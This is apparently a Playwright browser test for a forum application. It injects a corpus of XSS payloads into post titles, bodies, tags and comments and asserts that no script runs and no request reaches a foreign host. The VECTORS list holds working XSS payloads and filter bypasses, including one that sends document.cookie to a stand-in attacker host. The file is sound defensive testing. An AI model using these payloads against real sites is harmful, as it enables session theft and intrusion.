"""An XSS corpus in a post's title, body, tags and comments never runs in the browser: no dialog opens
and no request leaves for a foreign host, on the post page, the lists, the profile and the editor's
live preview, for a logged-in reader (whose page has its scripts and keys)."""

from __future__ import annotations

import orjson
from playwright.sync_api import Browser, Page, expect

from stoa.protocol.operations import Comment

from ..integration.conftest import RunningNode
from .conftest import Traffic, advance, broadcast, login, open_context, watch_dialogs

VECTORS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert('svg')>",
    "<svg><script>alert('svg-script')</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    '<iframe src="https://evil.example/frame"></iframe>',
    "<a href=\"javascript:alert('href')\">click</a>",
    "[markdown link](javascript:alert('md'))",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "<body onload=alert('body')>",
    '<div style="background:url(https://evil.example/bg.png)">styled</div>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/embed">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/import.css';</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    "<input autofocus onfocus=alert('focus')>",
    "<details open ontoggle=alert('toggle')>x</details>",
    "<math><mtext></table><img src=x onerror=alert('math')>",
    "<<script>script>alert('nested')<</script>/script>",
    "<scr<script>ipt>alert('split')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<video><source onerror=alert('video')></video>",
    "<img src=x onerror=\"fetch('https://evil.example/steal?'+document.cookie)\">",
    "\"><script>alert('attr')</script>",
    "<table><td style=\"background:url('https://evil.example/td.png')\">cell</td></table>",
    "<p>ok</p><!-- <img src=x onerror=alert('comment')> -->",
    "```\n<script>alert('code')</script>\n```",
    "<img src=x:alert(1)>",
]
TITLE = "<script>alert('title')</script><img src=x onerror=alert('title')>"
TAGS = ["xss", "\"><img src=x onerror=alert('tag')>"]


def seed(node: RunningNode) -> str:
    """carol's post holding every vector, and comments from alice and bob holding them in turn."""
    metadata = orjson.dumps({"tags": TAGS}).decode()
    body = "\n\n".join(VECTORS)
    broadcast(node, [Comment("", "xss", "carol", "corpus", TITLE, body, metadata)], "carol")
    for number, vector in enumerate(VECTORS[:12]):
        author = ("alice", "bob")[number % 2]
        if number % 2 == 0:
            advance(node, 4)
        comment = Comment("carol", "corpus", author, f"re-corpus-{number}", "", f"{vector}\n\n@carol #xss", "{}")
        broadcast(node, [comment], author)
    return "/xss/@carol/corpus"


def visit(page: Page, path: str) -> None:
    page.goto(path)
    page.wait_for_load_state("networkidle")


def test_the_corpus_never_runs(browser: Browser, node: RunningNode) -> None:
    url = seed(node)
    traffic = Traffic()
    context = open_context(browser, node, traffic)
    page = context.new_page()
    watch_dialogs(page, traffic, accept=False)
    login(page, "alice")
    for path in (url, url + "?sort=votes", url + "?sort=new", "/created", "/created/xss", "/@carol", "/@alice/replies"):
        visit(page, path)
    for summary in page.locator("summary").all()[:20]:  # open menus and reveals
        summary.click()
    visit(page, "/@carol/notifications")
    visit(page, "/submit.html")
    page.get_by_label("Body (markdown)").fill("\n\n".join(VECTORS))
    expect(page.locator("#preview")).to_contain_text("styled")
    page.wait_for_load_state("networkidle")
    visit(page, url)
    expect(page.locator("article.post h1")).to_contain_text("<script>alert('title')</script>")
    assert traffic.dialogs == []
    assert traffic.foreign == []
    assert page.evaluate("() => document.querySelectorAll('script:not([src])').length") == 0
    context.close()
